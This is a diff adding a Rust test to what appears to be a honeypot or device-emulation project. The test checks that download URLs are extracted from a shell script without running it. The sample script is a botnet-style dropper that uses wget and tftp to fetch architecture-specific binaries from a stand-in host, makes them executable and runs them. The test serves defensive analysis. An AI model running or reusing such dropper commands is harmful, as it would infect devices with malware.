@@ -356,3 +356,21 @@ fn downloads_wait_for_the_fetch_and_replay() {
         "tftp: server error: (1) File not found\n"
     );
 }
+
+#[test]
+fn script_downloads_are_found_without_running_anything() {
+    let p = Profile::load("router-tplink").unwrap();
+    let sys = System::new(p.instantiate(&Deployment::from_seed([7; 32])), NOW);
+    let script = b"#!/bin/sh\nSRV=203.0.113.9\nfor a in arm mips x86; do\n  cd /tmp; wget http://$SRV/bins/t.$a -O t; chmod 777 t; ./t\ndone\ntftp -g -r t.sh4 $SRV\nwget http://$SRV/bins/t.arm -O t2\n";
+    let urls = crate::script_downloads(sys, script, NOW);
+    let got: Vec<&str> = urls.iter().map(|(u, _)| u.as_str()).collect();
+    assert_eq!(
+        got,
+        [
+            "http://203.0.113.9/bins/t.arm",
+            "http://203.0.113.9/bins/t.mips",
+            "http://203.0.113.9/bins/t.x86",
+            "tftp://203.0.113.9/t.sh4"
+        ]
+    );
+}
